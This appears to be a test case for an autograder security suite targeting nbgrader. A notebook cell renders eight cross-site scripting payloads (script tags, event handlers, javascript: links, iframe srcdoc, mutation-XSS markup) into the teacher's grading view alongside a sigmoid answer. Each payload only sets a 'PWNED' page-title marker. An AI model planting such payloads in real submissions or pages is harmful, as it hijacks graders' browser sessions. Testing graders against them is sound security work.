# /// case
# about = "right answers, and rich output with scripts, event handlers, frames and links that run code"
# kind = "render"
# promise = 6
# succeeds_at = ["nbgrader"]
# ///
# %% sigmoid
# feedback and the grading page show a student's output in the teacher's session
from IPython.display import HTML, display

_RUN = "document.title=" + repr(":".join(["PWNED", "attack/html_with_script"]))
for _text in (
    f"<script>{_RUN}</script>",
    f'<img src="x" onerror="{_RUN}">',
    f'<a href="javascript:{_RUN}">the full solution</a>',
    f'<iframe srcdoc="&lt;script&gt;parent.{_RUN}&lt;/script&gt;"></iframe>',
    f'<details open ontoggle="{_RUN}"></details>',
    f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f'<object data="data:text/html,<script>{_RUN}</script>"></object>',
    f'<form action="javascript:{_RUN}"><button>next</button></form>',
):
    display(HTML(_text))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
